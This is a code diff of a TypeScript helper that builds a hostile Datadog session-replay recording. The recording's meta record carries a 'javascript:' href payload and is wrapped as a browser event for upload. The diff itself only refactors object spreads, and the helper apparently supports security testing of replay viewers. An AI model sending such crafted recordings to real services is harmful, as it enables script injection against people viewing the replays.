@@ -52,7 +52,9 @@ export async function sendHostileDatadogRecording(url: string, evil: string): Pr
   const records = [
     { type: 4, timestamp: start, data: { href: `javascript:${run}`, width: 800, height: 500 } },
     {
-      ...{ type: 2, format: 1, timestamp: start },
+      type: 2,
+      format: 1,
+      timestamp: start,
       data: [
         [1, ...nodes],
         [
@@ -105,14 +107,15 @@ export async function sendHostileDatadogRecording(url: string, evil: string): Pr
     changed(1_100, [1, [count + 5 - body, 'P'], [1, '#text', 'After all of it']]),
   ]
   const event = {
-    ...{
-      start,
-      end: start + 10_000,
-      index_in_view: 0,
-      records_count: records.length,
-      has_full_snapshot: true,
-    },
-    ...{ source: 'browser', application: { id: 'harbour' }, session: { id: session }, view: { id: view } },
+    start,
+    end: start + 10_000,
+    index_in_view: 0,
+    records_count: records.length,
+    has_full_snapshot: true,
+    source: 'browser',
+    application: { id: 'harbour' },
+    session: { id: session },
+    view: { id: view },
   }
   const form = new FormData()
   form.append(
